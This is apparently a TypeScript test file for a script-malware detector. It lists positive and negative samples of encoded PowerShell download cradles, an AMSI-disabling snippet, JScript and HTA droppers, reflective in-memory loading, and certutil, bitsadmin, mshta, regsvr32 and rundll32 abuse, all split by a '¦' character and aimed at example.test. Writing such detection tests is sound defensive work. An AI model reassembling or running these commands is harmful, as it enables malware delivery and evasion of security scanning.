import { assembled } from "./assembled.js";
import { eachMissing, inside, MB, type RuleCases } from "./rule-case.js";

const base64 = (text: string) => Buffer.from(text, "utf16le").toString("base64");
const harmless = base64("Write-Output 'a command that is long enough to be encoded'");
const download = (shift: string) =>
  base64(`${shift}(New-Object Net.WebClient).Down¦loadString('http://example.test/a')`.replace("¦", ""));

const AMSI_OFF = [
  "[Ref].Assembly.GetType('System.Management.Automation.Am¦si' + 'Utils')",
  ".GetField('am¦siInit' + 'Failed', 'NonPublic,Static')",
  ".Set¦Value($null, $true)",
];

const WSH_DROPPER = [
  'var h = new ActiveXObject("MSXML2.XMLH¦TTP"); h.open("GET", "http://example.test/a.exe", false); h.send();',
  'var s = new ActiveXObject("ADO¦DB.Stream"); s.Type = 1; s.Open(); s.Write(h.responseBody);',
  's.Save¦ToFile("a.exe", 2);',
  'new ActiveXObject("WScr¦ipt.Shell").Run("a.exe");',
];

const characterCodes = (count: number) => Array.from({ length: count }, (_, index) => 65 + (index % 26));
const chr = (count: number) =>
  characterCodes(count)
    .map((code) => `Chr(${code})`)
    .join(" & ");

const HTA = (command: string) =>
  assembled(
    `<html><hta:app¦lication><script language="VBScript">CreateObject("WScr¦ipt.Shell").Run "${command}", 0</script></html>`,
  );

const LOAD = "[System.Reflection.Assembly]::Lo¦ad($b).EntryPoint.Invoke($null, $null)";
const inlineProgram = (load: string) =>
  assembled(`$b = [Convert]::FromBase¦64String("TVq¦QAAMAAAAEAAAA${"A".repeat(300)}")\r\n${load}`);

export const scriptCases: RuleCases = {
  Script_PowerShell_Encoded_Command: {
    below: 10 * MB,
    found: {
      "the short option": assembled(`powershell.exe -nop -e¦nc ${harmless}`),
      "the long option": assembled(`"powershell" -NonInteractive -Encoded¦Command ${harmless}`),
      "in UTF-16": assembled(`powershell -e¦nc ${harmless}`, "utf16le"),
    },
    passed: {
      "an execution policy": Buffer.from("powershell.exe -ExecutionPolicy Bypass -File install.ps1"),
      "an encoding": Buffer.from("powershell Get-Content -Encoding utf8 list.txt"),
    },
  },
  Script_PowerShell_Encoded_Download: {
    below: 10 * MB,
    found: Object.fromEntries(
      ["", " ", "  "].map((shift) => [`moved by ${shift.length}`, assembled(`power¦shell -enc ${download(shift)}`)]),
    ),
    passed: {
      "an encoded command that downloads nothing": assembled(`powershell -e¦nc ${harmless}`),
      "an encoded download for nobody": Buffer.from(download("")),
    },
  },
  Script_PowerShell_Hidden_Download: {
    below: 10 * MB,
    found: {
      "a cradle": assembled(
        "powershell -nop -w hid¦den -c \"IEX (New-Object Net.WebClient).DownloadString('http://example.test/a')\"",
      ),
      "spelt out": assembled("PowerShell.exe -WindowStyle Hid¦den -Command iwr https://example.test/a.exe -OutFile a.exe"),
    },
    passed: {
      "an installer that is shown": Buffer.from('powershell -NoProfile -Command "iex (irm https://example.test/install.ps1)"'),
      "a hidden task that stays here": Buffer.from("powershell -WindowStyle Hidden -File C:\\tools\\backup.ps1"),
    },
  },
  Script_PowerShell_Disables_AMSI: {
    below: 2 * MB,
    found: { "by its private field": assembled(AMSI_OFF.join("")), "in UTF-16": assembled(AMSI_OFF.join(""), "utf16le") },
    passed: {
      ...eachMissing(AMSI_OFF, (parts) => assembled(parts.join(""))),
      "a page that explains it": assembled("The class is System.Management.Automation.Am¦siUtils, its field am¦siInitFailed."),
    },
  },
  Script_PowerShell_Loads_Inline_Program: {
    below: 20 * MB,
    found: { "into memory": inlineProgram(LOAD) },
    passed: {
      ...inside("a Windows program", inlineProgram(LOAD)),
      "into a file": inlineProgram("[IO.File]::WriteAllBytes('a.exe', $b)"),
      "a library from disk": Buffer.from("[Reflection.Assembly]::LoadFile('C:\\a.dll'); [Convert]::FromBase64String('AAAA')"),
    },
  },
  Script_Windows_Host_Dropper: {
    below: MB,
    found: { JScript: assembled(WSH_DROPPER.join("\n")), "in UTF-16": assembled(WSH_DROPPER.join("\n"), "utf16le") },
    passed: {
      ...eachMissing(WSH_DROPPER, (parts) => assembled(parts.join("\n"))),
      ...inside("a Windows program", assembled(WSH_DROPPER.join("\n"))),
      ...inside("an Office document", assembled(WSH_DROPPER.join("\n"))),
    },
  },
  Script_Windows_Host_Obfuscated: {
    below: 2 * MB,
    found: {
      VBScript: Buffer.from(`Execute ${chr(30)}`),
      JScript: Buffer.from(`ev${"al"}(String.fromCharCode(${characterCodes(60).join(",")}))`),
    },
    passed: {
      ...inside("a Windows program", Buffer.from(`Execute ${chr(30)}`)),
      "a text by character codes": Buffer.from(`MsgBox ${chr(30)}`),
      "a line break": Buffer.from("Execute command & Chr(13) & Chr(10)"),
      "characters that are not run": Buffer.from(`String.fromCharCode(${characterCodes(60).join(",")})`),
    },
  },
  Script_HTML_Application_Dropper: {
    below: MB,
    found: { PowerShell: HTA("powers¦hell -c a"), "the command line": HTA("cmd.exe /¦c a.exe") },
    passed: {
      "an editor": HTA("notepad.exe readme.txt"),
      "a page without script": assembled('CreateObject("WScr¦ipt.Shell").Run "cmd /¦c a"'),
    },
  },
  Script_LOLBin_Download: {
    below: MB,
    found: {
      "certutil, from the net": assembled("certu¦til -urlcache -split -f http://example.test/a.exe a.exe"),
      "certutil, from text": assembled("certu¦til.exe -decode a.txt %TEMP%\\a.exe"),
      bitsadmin: assembled("bitsad¦min /transfer job /download /priority high https://example.test/a.exe C:\\a.exe"),
    },
    passed: {
      ...inside("a Windows program", assembled("certu¦til.exe -decode a.txt a.exe")),
      "certutil with a certificate": Buffer.from("certutil -decode server.b64 server.cer"),
      "certutil emptying its cache": Buffer.from("certutil -urlcache * delete"),
      "bitsadmin listing": Buffer.from("bitsadmin /list /allusers"),
    },
  },
  Script_LOLBin_Runs_Script: {
    below: MB,
    found: {
      "mshta with an address": assembled("msh¦ta https://example.test/a.hta"),
      "mshta with a script": assembled('msh¦ta.exe "vbscript:Close(Execute(""a""))"'),
      regsvr32: assembled("regsv¦r32 /s /n /u /i:http://example.test/a.sct scrobj.dll"),
      rundll32: assembled('rundl¦l32.exe javascript:"\\..\\mshtml,RunHTMLApplication "'),
    },
    passed: {
      ...inside("a Windows program", assembled("msh¦ta https://example.test/a.hta")),
      "mshta with a file": Buffer.from("mshta C:\\tools\\menu.hta"),
      "regsvr32 with a library": Buffer.from("regsvr32 /s /i:user scrobj.dll"),
      "rundll32 with a library": Buffer.from("rundll32.exe shell32.dll,Control_RunDLL"),
    },
  },
};
